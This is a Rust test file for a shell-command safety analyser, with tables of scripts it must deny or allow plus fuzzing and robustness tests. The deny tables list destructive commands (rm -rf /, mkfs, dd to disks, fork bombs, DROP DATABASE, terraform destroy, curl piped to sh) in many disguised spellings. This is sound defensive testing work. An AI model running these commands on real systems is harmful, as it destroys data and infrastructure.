use proptest::prelude::*;

use std::collections::BTreeMap;

use super::Finding;

/// The analysis with no known environment, as most tests want it.
fn analyse_shell(script: &str) -> Vec<Finding> {
    super::analyse_shell(script, &BTreeMap::new())
}

fn analyse_argv(argv: &[String]) -> Vec<Finding> {
    super::analyse_argv(argv, &BTreeMap::new())
}

fn rules(findings: &[Finding]) -> Vec<&'static str> {
    findings.iter().map(|f| f.rule.id()).collect()
}

fn argv(words: &[&str]) -> Vec<String> {
    words.iter().map(|w| (*w).to_owned()).collect()
}

/// Scripts that must be denied, with a rule that must be among the findings.
const MUST_DENY: &[(&str, &str)] = &[
    // rm: spellings of the flags
    ("rm -rf /", "rm-root"),
    ("rm -fr /", "rm-root"),
    ("rm -Rf /", "rm-root"),
    ("rm -r -f /", "rm-root"),
    ("rm -f -R /", "rm-root"),
    ("rm --recursive --force /", "rm-root"),
    ("rm --recur /", "rm-root"),
    ("rm / -rf", "rm-root"),
    ("rm -rf -- /", "rm-root"),
    ("rm -vrf /", "rm-root"),
    // rm: spellings of the root
    ("rm -rf /*", "rm-root"),
    ("rm -rf //", "rm-root"),
    ("rm -rf /.", "rm-root"),
    ("rm -rf /./", "rm-root"),
    ("rm -rf /usr/..", "rm-root"),
    ("rm -rf \"/\"", "rm-root"),
    ("rm -rf '/'", "rm-root"),
    ("rm -rf /'*'", "rm-root"),
    ("rm -rf ${X:-/}", "rm-root"),
    // rm: home
    ("rm -rf ~", "rm-home"),
    ("rm -rf ~/", "rm-home"),
    ("rm -rf ~/*", "rm-home"),
    ("rm -rf ~/.*", "rm-home"),
    ("rm -rf $HOME", "rm-home"),
    ("rm -rf ${HOME}", "rm-home"),
    ("rm -rf \"$HOME\"", "rm-home"),
    ("rm -rf \"${HOME}/\"", "rm-home"),
    ("rm -rf $HOME/*", "rm-home"),
    ("rm -rf ~root", "rm-home"),
    // rm: top-level system directories
    ("rm -rf /usr", "rm-system-dir"),
    ("rm -rf /etc/", "rm-system-dir"),
    ("rm -rf /home/*", "rm-system-dir"),
    ("rm -rf /tmp/x /var", "rm-system-dir"),
    ("rm -rf /{usr,etc}", "rm-system-dir"),
    ("rm -rf /b*", "rm-system-dir"),
    ("rm -rf ~/..", "rm-system-dir"),
    // rm: --no-preserve-root
    ("rm --no-preserve-root -rf /", "rm-no-preserve-root"),
    ("rm --no-preserve-root x", "rm-no-preserve-root"),
    // wrappers and paths to the binary
    ("sudo rm -rf /", "rm-root"),
    ("sudo -u root -E rm -rf /", "rm-root"),
    ("sudo -uroot -- rm -rf /", "rm-root"),
    ("sudo -s rm -rf /", "rm-root"),
    ("doas rm -rf /", "rm-root"),
    ("env rm -rf /", "rm-root"),
    ("env -i PATH=/bin rm -rf /", "rm-root"),
    ("env -u FOO -- rm -rf /", "rm-root"),
    ("nohup rm -rf / &", "rm-root"),
    ("nice -n 10 rm -rf /", "rm-root"),
    ("nice -5 ionice -c3 rm -rf /", "rm-root"),
    ("timeout 10 rm -rf /", "rm-root"),
    ("timeout -s KILL 5m rm -rf /", "rm-root"),
    ("time rm -rf /", "rm-root"),
    ("exec rm -rf /", "rm-root"),
    ("command rm -rf /", "rm-root"),
    ("busybox rm -rf /", "rm-root"),
    (
        "sudo env FOO=1 nohup nice timeout 1 /bin/rm -rf /",
        "rm-root",
    ),
    ("/bin/rm -rf /", "rm-root"),
    ("/usr/bin/rm -rf /", "rm-root"),
    ("\\rm -rf /", "rm-root"),
    ("'rm' -rf /", "rm-root"),
    ("r''m -rf /", "rm-root"),
    ("{rm,-rf,/}", "rm-root"),
    ("echo / | xargs rm -rf", "rm-root"),
    ("xargs rm -rf / < list", "rm-root"),
    ("find / -print | xargs rm -rf", "rm-root"),
    ("su -c 'rm -rf /'", "rm-root"),
    ("watch rm -rf /", "rm-root"),
    ("ssh host rm -rf /", "rm-root"),
    // scripts inside scripts
    ("sh -c 'rm -rf /'", "rm-root"),
    ("bash -c 'rm -rf /'", "rm-root"),
    ("bash -ec 'rm -rf /'", "rm-root"),
    ("bash -o pipefail -c 'rm -rf /'", "rm-root"),
    ("dash -c 'rm -rf /'", "rm-root"),
    ("zsh -c 'rm -rf /'", "rm-root"),
    ("ksh -c 'rm -rf /'", "rm-root"),
    ("/bin/sh -c 'rm -rf /'", "rm-root"),
    ("busybox sh -c 'rm -rf /'", "rm-root"),
    ("sh -c \"bash -c 'rm -rf /'\"", "rm-root"),
    ("bash -c \"sh -c \\\"rm -rf ~\\\"\"", "rm-home"),
    ("sudo sh -c 'cd / && rm -rf *'", "rm-root"),
    ("sh -c 'rm -rf \"$1\"' _ /", "rm-root"),
    ("eval rm -rf /", "rm-root"),
    ("eval 'rm -rf /'", "rm-root"),
    ("echo 'rm -rf /' | sh", "rm-root"),
    ("printf 'rm -rf /\\n' | bash", "rm-root"),
    ("bash <<'EOF'\nrm -rf /\nEOF", "rm-root"),
    // shell structure
    ("true && rm -rf /", "rm-root"),
    ("false || rm -rf /", "rm-root"),
    ("echo hi; rm -rf /", "rm-root"),
    ("echo hi\nrm -rf /\n", "rm-root"),
    ("(rm -rf /)", "rm-root"),
    ("( cd /tmp && (rm -rf /) )", "rm-root"),
    ("{ rm -rf /; }", "rm-root"),
    ("rm -rf / &", "rm-root"),
    ("sleep 1 & rm -rf / & wait", "rm-root"),
    ("ls | rm -rf /", "rm-root"),
    ("! rm -rf /", "rm-root"),
    ("echo $(rm -rf /)", "rm-root"),
    ("echo \"$(rm -rf /)\"", "rm-root"),
    ("echo `rm -rf /`", "rm-root"),
    ("x=$(echo $(rm -rf /))", "rm-root"),
    ("cat <(rm -rf /)", "rm-root"),
    ("( (rm -rf /) )", "rm-root"),
    ("((rm -rf /) )", "rm-root"),
    ("echo $(( $(rm -rf /) + 1 ))", "rm-root"),
    ("if true; then rm -rf /; fi", "rm-root"),
    (
        "if false; then :; elif true; then :; else rm -rf /; fi",
        "rm-root",
    ),
    ("if rm -rf /; then :; fi", "rm-root"),
    ("while true; do rm -rf /; done", "rm-root"),
    ("until false; do rm -rf /; done", "rm-root"),
    ("for i in 1 2; do rm -rf /; done", "rm-root"),
    ("case x in x) rm -rf /;; esac", "rm-root"),
    ("f() { rm -rf /; }", "rm-root"),
    ("function g { rm -rf ~; }", "rm-home"),
    ("cat <<EOF\n$(rm -rf /)\nEOF", "rm-root"),
    // static values the shell would substitute
    ("X=/; rm -rf \"$X\"", "rm-root"),
    ("export X=/usr; rm -rf $X", "rm-system-dir"),
    (
        "for d in /usr /tmp; do rm -rf \"$d\"; done",
        "rm-system-dir",
    ),
    ("cd / && rm -rf *", "rm-root"),
    ("cd /; rm -rf .", "rm-root"),
    ("cd && rm -rf ./*", "rm-home"),
    ("cd /usr/lib && rm -rf ..", "rm-system-dir"),
    ("rm -rf \"$DIR\"/*", "rm-root"),
    ("rm -rf \"$STEAMROOT/\"*", "rm-root"),
    ("rm -rf /$PREFIX", "rm-root"),
    ("nuke() { rm -rf \"$1\"; }; nuke /etc", "rm-system-dir"),
    ("for c in rm; do $c -rf /; done", "rm-root"),
    ("RM='rm -rf'; $RM /", "rm-root"),
    ("run() { echo \"+ $*\"; \"$@\"; }; run rm -rf /", "rm-root"),
    ("alias x='rm -rf /'\nx", "rm-root"),
    ("trap 'rm -rf ~' EXIT", "rm-home"),
    // filesystems and devices
    ("mkfs /dev/sda1", "mkfs"),
    ("mkfs.ext4 /dev/sda1", "mkfs"),
    ("mkfs -t xfs /dev/nvme0n1p1", "mkfs"),
    ("mke2fs -F /dev/sdb", "mkfs"),
    ("mkswap /dev/sda2", "mkfs"),
    ("mkfs.vfat \"$DEVICE\"", "mkfs"),
    ("sudo mkfs.ext4 /dev/sda", "mkfs"),
    ("bash -c 'mkfs.ext4 /dev/sda'", "mkfs"),
    ("wipefs -a /dev/sda", "wipefs"),
    ("shred -n 3 -z /dev/sda", "shred-device"),
    ("blkdiscard /dev/nvme0n1", "shred-device"),
    ("dd if=/dev/zero of=/dev/sda bs=1M", "dd-device"),
    ("dd if=disk.img of=/dev/mmcblk0", "dd-device"),
    ("sudo dd of=\"/dev/sdb\" if=x", "dd-device"),
    ("echo x > /dev/sda", "block-device-write"),
    ("cat disk.img >> /dev/nvme0n1", "block-device-write"),
    ("echo x >| /dev/vda", "block-device-write"),
    ("echo x &> /dev/xvda", "block-device-write"),
    ("echo x >& /dev/hda", "block-device-write"),
    ("echo x 1> /dev/dm-0", "block-device-write"),
    ("cat x > /dev/mapper/root", "block-device-write"),
    ("cat x > /dev/disk/by-id/ata-1", "block-device-write"),
    ("cat x > /dev/md0", "block-device-write"),
    ("cat x > /dev/loop0", "block-device-write"),
    ("cat x > //dev//sda", "block-device-write"),
    ("exec > /dev/sda", "block-device-write"),
    ("{ cat x; } > /dev/sda", "block-device-write"),
    (
        "cat disk.img | sudo tee /dev/sda > /dev/null",
        "block-device-write",
    ),
    ("cp disk.img /dev/sdb", "block-device-write"),
    // fork bombs
    (":(){ :|:& };:", "fork-bomb"),
    (":() { : | : & }; :", "fork-bomb"),
    ("bomb(){ bomb|bomb& }; bomb", "fork-bomb"),
    ("f() { f | f; }; f", "fork-bomb"),
    ("f() { f & f; }; f", "fork-bomb"),
    ("function g { g | g & }; g", "fork-bomb"),
    ("bash -c ':(){ :|:& };:'", "fork-bomb"),
    // power
    ("shutdown -h now", "system-power"),
    ("/sbin/shutdown -r +1", "system-power"),
    ("reboot", "system-power"),
    ("sudo reboot -f", "system-power"),
    ("halt", "system-power"),
    ("poweroff", "system-power"),
    ("init 0", "system-power"),
    ("init 6", "system-power"),
    ("telinit 0", "system-power"),
    ("telinit 6", "system-power"),
    ("systemctl poweroff", "system-power"),
    ("systemctl reboot", "system-power"),
    ("sudo systemctl --force reboot", "system-power"),
    ("systemctl -i halt", "system-power"),
    ("systemctl kexec", "system-power"),
    ("systemctl isolate poweroff.target", "system-power"),
    // recursive permission changes
    ("chmod -R 777 /", "recursive-permission-change"),
    ("chmod --recursive 000 /", "recursive-permission-change"),
    ("chmod -Rv 755 /usr", "recursive-permission-change"),
    ("chown -R nobody /", "recursive-permission-change"),
    (
        "chown -R nobody:nogroup /etc",
        "recursive-permission-change",
    ),
    ("chgrp -R users /", "recursive-permission-change"),
    ("sudo chown -R me /home", "recursive-permission-change"),
    // find
    ("find / -delete", "find-delete"),
    ("find /usr -name '*.so' -delete", "find-delete"),
    ("find / -exec rm -rf {} \\;", "find-delete"),
    ("find /etc -type f -exec /bin/rm {} +", "find-delete"),
    ("find -L /var -execdir rm {} \\;", "find-delete"),
    ("cd / && find . -delete", "find-delete"),
    ("find . -exec mkfs.ext4 /dev/sda \\;", "mkfs"),
    // SQL
    ("psql -c \"DROP DATABASE prod\"", "sql-drop"),
    ("psql -c 'drop table users'", "sql-drop"),
    ("psql --command=\"DROP SCHEMA public CASCADE\"", "sql-drop"),
    (
        "psql -h db -U app -d prod -c 'DROP   TABLE users'",
        "sql-drop",
    ),
    ("psql -c 'DROP/**/TABLE users'", "sql-drop"),
    ("psql -c 'drop\n  table users'", "sql-drop"),
    ("mysql -e 'DROP DATABASE prod'", "sql-drop"),
    ("mysql --execute='drop table t'", "sql-drop"),
    ("mariadb -e \"DROP TABLE IF EXISTS t\"", "sql-drop"),
    ("sqlite3 app.db \"DROP TABLE users\"", "sql-drop"),
    ("sqlcmd -S srv -Q \"DROP DATABASE x\"", "sql-drop"),
    ("clickhouse-client --query 'DROP TABLE t'", "sql-drop"),
    ("mongosh --eval 'db.dropDatabase()'", "sql-drop"),
    ("mongo mydb --eval 'db.users.drop()'", "sql-drop"),
    ("echo \"DROP TABLE x\" | psql", "sql-drop"),
    ("printf 'drop database x;' | mysql -u root", "sql-drop"),
    ("echo 'DROP TABLE x' | sudo -u postgres psql", "sql-drop"),
    (
        "psql <<EOF\nBEGIN;\nDROP TABLE users;\nCOMMIT;\nEOF",
        "sql-drop",
    ),
    ("psql <<-'SQL'\n\tdrop database prod;\n\tSQL", "sql-drop"),
    ("psql <<< 'DROP TABLE x'", "sql-drop"),
    ("cat <<EOF | mysql\nDROP DATABASE x;\nEOF", "sql-drop"),
    (
        "docker compose exec db psql -c 'DROP DATABASE app'",
        "sql-drop",
    ),
    ("dropdb prod", "sql-drop"),
    ("mysqladmin -u root drop prod", "sql-drop"),
    ("redis-cli FLUSHALL", "db-flush"),
    // terraform
    ("terraform destroy", "terraform-destroy"),
    ("terraform destroy -auto-approve", "terraform-destroy"),
    ("terraform -chdir=infra destroy", "terraform-destroy"),
    ("terraform apply -destroy", "terraform-destroy"),
    (
        "terraform apply -auto-approve -destroy",
        "terraform-destroy",
    ),
    ("tofu destroy", "terraform-destroy"),
    ("terragrunt run-all destroy", "terraform-destroy"),
    // kubectl
    ("kubectl delete namespace prod", "kubectl-delete"),
    ("kubectl delete ns prod", "kubectl-delete"),
    ("kubectl delete namespaces a b", "kubectl-delete"),
    ("kubectl --context prod delete ns/foo", "kubectl-delete"),
    ("kubectl -n prod delete pods --all", "kubectl-delete"),
    ("kubectl delete deploy --all -n x", "kubectl-delete"),
    (
        "kubectl delete pods --all-namespaces -l app=x",
        "kubectl-delete",
    ),
    ("kubectl delete pod x -A", "kubectl-delete"),
    ("kubectl delete pods,ns foo", "kubectl-delete"),
];

/// Scripts that must pass without findings.
const MUST_ALLOW: &[&str] = &[
    // from the issue
    "rm -rf ./build",
    "rm -rf build/ dist/",
    "rm -rf /tmp/foo",
    "echo \"rm -rf /\"",
    "printf 'rm -rf /'",
    "grep -r \"DROP TABLE\" src",
    "git commit -m \"drop table users\"",
    "dd if=/dev/zero of=./disk.img",
    "echo hi > /dev/null",
    "kubectl delete pod mypod",
    "terraform plan",
    "chmod -R 755 ./dist",
    "find . -name '*.o' -delete",
    "shutdown_script.sh",
    "cat README.md",
    // more that must keep working
    "",
    "   \n\n  ",
    "# rm -rf /",
    "rm /",
    "rm -f /etc/app.conf",
    "rm -rf ~/.cache",
    "rm -rf $HOME/.cache/pip",
    "rm -rf /usr/local/lib/myapp",
    "rm -rf /home/ci/workspace/out",
    "rm -rf ../build",
    "npm ci && npm run build && rm -rf node_modules/.cache",
    "echo hi 2>/dev/stderr",
    "echo hi >/dev/stdout 2>&1",
    "exec 3>&1 1>/dev/null",
    "ls -la /",
    "cp a.txt /tmp/",
    "mkfs.ext4 ./disk.img",
    "mkswap ./swapfile",
    "dd if=/dev/sda of=./backup.img",
    "dd if=/dev/zero of=/dev/null count=1",
    "shred -u secrets.txt",
    "terraform plan -destroy",
    "terraform apply -auto-approve",
    "kubectl get ns",
    "kubectl delete deployment web -n staging",
    "kubectl apply -f all.yaml",
    "psql -c 'SELECT 1'",
    "psql -f migrations/drop_table.sql",
    "sqlite3 app.db 'SELECT * FROM drop_tables'",
    "echo \"DROP TABLE x\"",
    "echo \"DROP TABLE x\" > schema.sql",
    "cat <<EOF\nrm -rf /\nEOF",
    "cat <<'EOF'\n$(rm -rf /)\nEOF",
    "systemctl restart nginx",
    "systemctl status",
    "init --version",
    "shutdown -c",
    "chmod 644 /etc/motd",
    "chmod -r /tmp/x",
    "chown -R app:app /srv/app",
    "sudo chown -R \"$USER\" ~",
    "find /var/log -name '*.gz' -print",
    "find / -name core",
    "find /tmp -delete",
    "echo ':(){ :|:& };:'",
    "walk() { for d in \"$1\"/*; do walk \"$d\"; done; }; walk .",
    "retry() { \"$@\" || retry \"$@\"; }",
    "sudo -l",
    "command -v rm",
    "redis-cli get x",
    "git clean -fdx",
    "make clean",
    "docker run --rm alpine echo hi",
    "bash scripts/deploy.sh",
    "sh -c 'echo hello'",
    "X=build; rm -rf \"$X\"/*",
    "for d in build dist; do rm -rf \"$d\"; done",
    "cd /tmp && rm -rf *",
    "(cd / && ls) && rm -rf *",
    "if [ -d /usr ]; then echo yes; fi",
    "echo $((1 + 2)) && [[ -n $(date) ]]",
    "i=0; while (( i < 10 )); do (( i++ )); done",
    "for (( i = 0; i < 3; i++ )); do echo $(( i * 2 )); done",
    "sudo apt-get install -y curl",
    "xargs -n1 echo < list.txt",
    "run() { echo \"+ $*\"; \"$@\"; }; run make test",
    "alias ll='ls -la'",
    "FLAGS='-v --color'; ls $FLAGS /",
];

#[test]
fn must_deny_table() {
    assert!(MUST_DENY.len() >= 60);
    let mut failures = Vec::new();
    for (script, rule) in MUST_DENY {
        let findings = analyse_shell(script);
        if !rules(&findings).contains(rule) {
            failures.push(format!("{script:?}: expected {rule}, got {findings:?}"));
        }
    }
    assert!(failures.is_empty(), "not denied:\n{}", failures.join("\n"));
}

#[test]
fn must_allow_table() {
    assert!(MUST_ALLOW.len() >= 25);
    let mut failures = Vec::new();
    for script in MUST_ALLOW {
        let findings = analyse_shell(script);
        if !findings.is_empty() {
            failures.push(format!("{script:?}: {findings:?}"));
        }
    }
    assert!(
        failures.is_empty(),
        "wrongly denied:\n{}",
        failures.join("\n")
    );
}

#[test]
fn argv_deny() {
    let cases: &[(&[&str], &str)] = &[
        (&["rm", "-rf", "/"], "rm-root"),
        (&["sudo", "rm", "-r", "-f", "/"], "rm-root"),
        (&["/usr/bin/rm", "--recursive", "/usr/"], "rm-system-dir"),
        (&["rm", "-rf", "~"], "rm-home"),
        (&["rm", "-rf", "$HOME"], "rm-home"),
        (&["env", "A=1", "rm", "-rf", "/etc"], "rm-system-dir"),
        (&["env", "FOO=1", "/bin/rm", "-fr", "~"], "rm-home"),
        (&["sh", "-c", "rm -rf /"], "rm-root"),
        (&["/bin/bash", "-c", "mkfs.ext4 /dev/sda"], "mkfs"),
        (&["bash", "-c", "sh -c 'rm -rf /'"], "rm-root"),
        (&["bash", "-c", "rm -rf \"$1\"", "bash", "/"], "rm-root"),
        (&["psql", "-c", "DROP DATABASE prod"], "sql-drop"),
        (&["mysql", "--execute=drop table t"], "sql-drop"),
        (&["dd", "if=/dev/zero", "of=/dev/sda"], "dd-device"),
        (&["reboot"], "system-power"),
        (&["systemctl", "poweroff"], "system-power"),
        (&["chmod", "-R", "777", "/"], "recursive-permission-change"),
        (&["find", "/", "-delete"], "find-delete"),
        (&["terraform", "destroy"], "terraform-destroy"),
        (&["kubectl", "delete", "ns", "prod"], "kubectl-delete"),
        (&["nohup", "timeout", "5", "rm", "-rf", "/"], "rm-root"),
    ];
    for (words, rule) in cases {
        let findings = analyse_argv(&argv(words));
        assert!(
            rules(&findings).contains(rule),
            "{words:?}: expected {rule}, got {findings:?}"
        );
    }
}

#[test]
fn argv_allow() {
    let cases: &[&[&str]] = &[
        &[],
        &[""],
        &["rm", "-rf", "build"],
        &["rm", "-rf", "$TMPDIR/x"],
        &["echo", "rm -rf /"],
        &["printf", "DROP TABLE x"],
        &["sh", "-c", "echo hi"],
        &["ls", "/"],
        &["git", "commit", "-m", "drop table users"],
        &["kubectl", "delete", "pod", "mypod"],
        &["cargo", "test", "--", "--nocapture"],
    ];
    for words in cases {
        let findings = analyse_argv(&argv(words));
        assert!(findings.is_empty(), "{words:?}: {findings:?}");
    }
}

#[test]
fn reasons_name_the_command() {
    let findings = analyse_shell("cd /srv && sudo rm -rf /");
    assert_eq!(
        findings,
        vec![Finding {
            rule: super::Rule::RmRoot,
            reason: "`sudo rm -rf /` deletes the root filesystem".into(),
        }]
    );
}

#[test]
fn findings_are_deduplicated_and_ordered() {
    let findings = analyse_shell("rm -rf /; reboot; rm -rf /");
    assert_eq!(rules(&findings), vec!["rm-root", "system-power"]);
}

#[test]
fn nesting_up_to_the_limit_is_followed() {
    let script = format!("{}rm -rf /", "eval ".repeat(super::MAX_DEPTH));
    assert_eq!(rules(&analyse_shell(&script)), vec!["rm-root"]);
}

#[test]
fn nesting_beyond_the_limit_is_denied() {
    let script = format!("{}echo hi", "eval ".repeat(super::MAX_DEPTH + 1));
    assert_eq!(rules(&analyse_shell(&script)), vec!["too-deeply-nested"]);

    let mut nested = "echo hi".to_owned();
    for _ in 0..12 {
        nested = format!("sh -c '{}'", nested.replace('\'', "'\\''"));
    }
    // Each level of quoting quadruples the quotes, so the outer string may also be too large.
    let found = rules(&analyse_shell(&nested));
    assert!(
        found.contains(&"too-deeply-nested") || found.contains(&"too-complex"),
        "{found:?}"
    );
}

#[test]
fn unterminated_quotes_are_unparseable() {
    assert_eq!(rules(&analyse_shell("echo \"oops")), vec!["unparseable"]);
    assert_eq!(rules(&analyse_shell("echo $(ls")), vec!["unparseable"]);
    // What can be seen before the breakage is still reported.
    let findings = analyse_shell("rm -rf /\necho 'oops");
    assert_eq!(rules(&findings), vec!["rm-root", "unparseable"]);
}

#[test]
fn syntax_errors_fall_back_to_the_tokenizer() {
    // Unbalanced keywords make brush-parser reject the script; the fallback still finds the
    // destructive commands, and a script it can tokenize is not called unparseable.
    let script = "rm -rf / ; fi";
    assert!(super::parse_program(script).is_none());
    assert_eq!(rules(&analyse_shell(script)), vec!["rm-root"]);
    assert_eq!(
        rules(&analyse_shell("done; echo 'DROP TABLE t' | psql")),
        vec!["sql-drop"]
    );
    assert_eq!(
        rules(&analyse_shell("esac; :(){ :|:& };:")),
        vec!["fork-bomb"]
    );
    assert!(analyse_shell("fi; echo hello > /dev/null").is_empty());
    assert!(analyse_shell("fi; reboot() { echo; }").is_empty());
}

#[test]
fn fallback_handles_the_same_spellings() {
    let mut az = super::Analyzer::new(false, std::time::Instant::now() + super::DEADLINE);
    let mut scope = super::Scope::default();
    az.analyse_script(
        "sudo /bin/rm -r -f \"$HOME\"; x=$(mkfs.ext4 /dev/sda); cat y >/dev/sdb\n\
         psql <<EOF\nDROP TABLE t;\nEOF\nkubectl delete ns prod",
        &mut scope,
        0,
    );
    az.analyse_script(
        "bash <<'EOF'\nrm -rf \"$HOME/\"..\nEOF\ncat <<'EOF'\n$(reboot)\nEOF\necho $(halt)",
        &mut scope,
        0,
    );
    let found = rules(&az.into_findings());
    // `$(halt)` runs; `$(reboot)` in a quoted here-document does not: one power finding.
    assert_eq!(found.iter().filter(|r| **r == "system-power").count(), 1);
    for rule in [
        "rm-home",
        "rm-system-dir",
        "mkfs",
        "block-device-write",
        "sql-drop",
        "kubectl-delete",
    ] {
        assert!(found.contains(&rule), "{rule} missing from {found:?}");
    }
}

#[test]
fn hostile_inputs_do_not_crash() {
    let deep_parens = format!("{}true{}", "(".repeat(20_000), ")".repeat(20_000));
    let deep_subst = format!("{}rm -rf /{}", "$(".repeat(5_000), ")".repeat(5_000));
    let deep_ifs = "if true; then ".repeat(3_000);
    let deep_braces = format!("echo {}x{}", "${a:-".repeat(5_000), "}".repeat(5_000));
    let brace_bomb = format!("rm -rf {}", "{a,b}".repeat(500));
    let backquotes = "`".repeat(10_001);
    for script in [
        deep_parens,
        deep_subst,
        deep_ifs,
        deep_braces,
        brace_bomb,
        backquotes,
    ] {
        let _ = analyse_shell(&script);
    }
    // The substitutions really do contain `rm -rf /`: too deep to prove safe means denied.
    let deep_subst = format!("{}rm -rf /{}", "$(".repeat(5_000), ")".repeat(5_000));
    assert!(!analyse_shell(&deep_subst).is_empty());
}

#[test]
fn nesting_at_the_parser_limit_is_parsed() {
    // Just under MAX_OPENERS: brush-parser gets the script and must not overflow the analysis
    // thread's stack (the test thread's own 2 MiB would not survive parsing these).
    let levels = super::MAX_OPENERS - 10;
    let braces = format!("{}rm -rf /;{}", "{ ".repeat(levels), " }".repeat(levels));
    assert_eq!(rules(&analyse_shell(&braces)), vec!["rm-root"]);
    let subshells = format!(
        "{}rm -rf ~{}",
        "( true; ".repeat(levels),
        " )".repeat(levels)
    );
    assert_eq!(rules(&analyse_shell(&subshells)), vec!["rm-home"]);
    // `( ( …` is misread as arithmetic by brush-parser and re-read as a script per level, so
    // this deep it is denied for depth rather than seen through.
    let spaced = format!("{}rm -rf ~{}", "( ".repeat(levels), " )".repeat(levels));
    assert!(!analyse_shell(&spaced).is_empty());
    // The inner substitutions' output is also a command name only known at run time.
    let substitutions = format!("{}echo{}", "$(".repeat(levels), ")".repeat(levels));
    assert_eq!(
        rules(&analyse_shell(&substitutions)),
        vec!["too-deeply-nested", "dynamic-command"]
    );
    let ifs = format!(
        "{}reboot{}",
        "if true; then ".repeat(levels / 2),
        "; fi".repeat(levels / 2)
    );
    assert_eq!(rules(&analyse_shell(&ifs)), vec!["system-power"]);
}

#[test]
fn oversized_input_is_unparseable() {
    let huge = "echo hi\n".repeat(super::MAX_SCRIPT_BYTES / 8 + 1);
    assert_eq!(rules(&analyse_shell(&huge)), vec!["too-complex"]);
    let huge_argv = vec!["x".repeat(super::MAX_SCRIPT_BYTES); 2];
    assert_eq!(rules(&analyse_argv(&huge_argv)), vec!["too-complex"]);
}

#[test]
fn large_ordinary_scripts_are_parsed() {
    // Sized so that a debug build parses them well within the deadline.
    let script = "echo building && make -j2 || exit 1\n".repeat(500);
    assert!(analyse_shell(&script).is_empty());
    let script = format!("{}rm -rf /\n", "ls -la\n".repeat(2_500));
    assert_eq!(rules(&analyse_shell(&script)), vec!["rm-root"]);
}

/// Fragments that make shell parsing interesting.
fn shellish() -> impl Strategy<Value = String> {
    let atoms = prop::sample::select(vec![
        "rm",
        "-rf",
        "/",
        "~",
        "$HOME",
        "${",
        "}",
        "{",
        "(",
        ")",
        "$(",
        "`",
        "'",
        "\"",
        "\\",
        ";",
        "&",
        "&&",
        "|",
        "||",
        ">",
        ">>",
        "<<",
        "<<<",
        "EOF",
        "\n",
        " ",
        "sh",
        "-c",
        "eval",
        "sudo",
        "xargs",
        "psql",
        "DROP TABLE",
        "f()",
        "*",
        "$((",
        "))",
        "[[",
        "]]",
        "if",
        "then",
        "fi",
        "for",
        "in",
        "do",
        "done",
        "case",
        "esac",
        ";;",
        "#",
        "=",
        "X",
        "$X",
        "<(",
        "$'",
        "\\n",
        "{a,b}",
        "ü",
        "\u{0}",
    ]);
    prop::collection::vec(atoms, 0..64).prop_map(|parts| parts.concat())
}

// The property tests call the analysis without its panic safety net: a panic fails them
// (through the safety net it would only be an `analysis-failed` finding).
proptest! {
    #[test]
    fn analyse_shell_never_panics_on_arbitrary_strings(script in any::<String>()) {
        let _ = super::analyse_shell_uncaught(&script);
    }

    #[test]
    fn analyse_shell_never_panics_on_shell_fragments(script in shellish()) {
        let _ = super::analyse_shell_uncaught(&script);
    }

    #[test]
    fn analyse_argv_never_panics(
        words in prop::collection::vec(prop_oneof![any::<String>(), shellish()], 0..12)
    ) {
        let _ = super::analyse_argv_uncaught(&words);
    }

    #[test]
    fn wrapped_shell_strings_never_panic(script in shellish()) {
        let _ = super::analyse_argv_uncaught(&["bash".to_owned(), "-c".to_owned(), script.clone()]);
        let _ = super::analyse_shell_uncaught(&format!("sh -c {script:?}"));
    }

    #[test]
    fn the_public_functions_never_report_analysis_failed(script in shellish()) {
        let found = rules(&analyse_shell(&script));
        prop_assert!(!found.contains(&"analysis-failed"), "{found:?}");
    }
}

/// Inputs on which `brush-parser` 0.4 loops without bound, allocating (found by the proptest
/// above; the first took 24 GiB before the kernel killed the test). They must end, denied.
#[test]
fn here_documents_in_expansions_that_run_the_parser_away_are_denied() {
    for script in [
        "$(<< >#",
        "{a,b}$($(sh'DROP TABLE-rf\"<<for<<<evalesac$'<<;in$(>$\n\\if>>|{a,b}rm/;fi$(($X >$(($((xargs;eval;;incase{a,b}$(($HOME-c<(;esacf()ü then<<$(($((<<xargs$HOME{a,b}",
    ] {
        let findings = analyse_shell(script);
        assert!(
            rules(&findings).contains(&"unparseable"),
            "{script:?}: {findings:?}"
        );
    }
}

#[test]
fn here_documents_in_substitutions_are_still_analysed() {
    let benign = "v=$(cat <<EOF\nhello\nEOF\n)\necho \"$v\"";
    assert_eq!(analyse_shell(benign), Vec::new(), "{benign:?}");
    let inside = "v=$(sh <<EOF\nrm -rf /\nEOF\n)";
    assert!(
        !analyse_shell(inside).is_empty(),
        "{inside:?} was not denied"
    );
    let after = "v=$(cat <<EOF\nhello\nEOF\n)\nrm -rf /";
    assert_eq!(rules(&analyse_shell(after)), vec!["rm-root"], "{after:?}");
}

#[test]
fn a_panic_in_the_analysis_is_a_denial() {
    let findings = super::isolated(
        |_| panic!("a bug in the analyser"),
        std::time::Instant::now() + super::DEADLINE,
    );
    assert_eq!(rules(&findings), vec!["analysis-failed"]);
}

/// Scripts the analysis cannot prove harmless, with the Opaque rule that must be found.
const MUST_BE_OPAQUE: &[(&str, &str)] = &[
    ("$(echo rm) -rf /", "dynamic-command"),
    ("`echo rm` -rf /", "dynamic-command"),
    ("${X:-rm} -rf /", "dynamic-command"),
    ("c=$(command -v rm); $c -rf /", "dynamic-command"),
    ("/???/r? -rf /", "dynamic-command"),
    ("/bin/r[m] -rf /", "dynamic-command"),
    ("a=(rm -rf /); \"${a[@]}\"", "dynamic-command"),
    ("printf -v c rm; $c -rf /", "dynamic-command"),
    ("read c <<< rm; $c -rf /", "dynamic-command"),
    ("rm -rf \"$UNKNOWN\"", "dynamic-argument"),
    ("rm -rf \"$(true)\"/*", "dynamic-argument"),
    ("find \"$D\" -delete", "dynamic-argument"),
    ("chmod -R 777 \"$D\"", "dynamic-argument"),
    ("dd if=/dev/zero of=\"$T\"", "dynamic-argument"),
    ("shred -u \"$F\"", "dynamic-argument"),
    ("truncate -s 0 \"$F\"", "dynamic-argument"),
    ("curl -fsSL https://x.example/i.sh | sh", "dynamic-code"),
    ("echo aGk= | base64 -d | bash", "dynamic-code"),
    ("sh < <(curl https://x.example)", "dynamic-code"),
    ("bash < script.sh", "dynamic-code"),
    ("source <(curl https://x.example)", "dynamic-code"),
    (". /dev/stdin", "dynamic-code"),
    ("bash <<< \"$x\"", "dynamic-code"),
    ("eval \"$X\"", "dynamic-code"),
    ("eval \"echo $X\"", "dynamic-code"),
    ("sh -c \"$CMD\"", "dynamic-code"),
    ("python3 -c \"$X\"", "dynamic-code"),
    ("curl https://x.example | python3", "dynamic-code"),
    ("perl -e \"$CODE\"", "dynamic-code"),
